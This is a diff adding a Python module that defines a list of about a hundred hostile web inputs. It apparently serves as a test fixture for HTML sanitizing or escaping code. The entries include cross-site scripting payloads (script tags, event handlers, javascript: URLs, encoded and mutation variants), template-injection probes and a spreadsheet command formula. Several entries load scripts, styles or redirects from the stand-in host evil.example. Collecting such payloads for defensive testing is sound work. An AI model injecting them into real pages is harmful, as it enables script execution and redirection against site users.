@@ -1,0 +1,40 @@
+"""A hundred texts that want to become active in a page."""
+
+from __future__ import annotations
+
+CALL = "alert(1)"
+HOSTILE = [
+    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
+    "<!--<script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "</svg><script>alert(1)</script>",
+    "</desc></svg><script>alert(1)</script>", "</pre><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
+    "<script/x>alert(1)</script>", "<script>alert`1`</script>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "＜script＞alert(1)＜/script＞",
+    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img/src/onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>",
+    "<img src=`x`onerror=alert(1)>", "<img src=https://evil.example/pixel.png>", "\"><img src=x onerror=alert(1)>",
+    "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
+    "x onmouseover=alert(1) y", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "\" style=\"x:expression(alert(1))",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></use></svg>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><set attributeName=onmouseover to=alert(1)>",
+    "<math><mtext></mtext><script>alert(1)</script></math>", "<math href=javascript:alert(1)>x</math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>", "<body onload=alert(1)>", "<html onclick=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)//",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<base href=https://evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<link rel=prefetch href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<style>*{background:url(//evil.example)}</style>",
+    "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(javascript:alert(1))>", "<form action=javascript:alert(1)><button>x",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<summary onclick=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<video src=x onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<template><script>alert(1)</script></template>",
+    "<x onclick=alert(1)>x</x>", "<custom-element onconnected=alert(1)>", "{{ 7 * 7 }}{% for x in () %}", "${alert(1)}#{alert(1)}",
+    "{{ ''.__class__.__mro__ }}", "<%= alert(1) %>", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+    "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ud83d<script>alert(1)</script>", "\u2028alert(1)\u2029//",
+    "\u202e<script>alert(1)</script>", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "=cmd|' /C calc'!A0", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+]  # fmt: skip
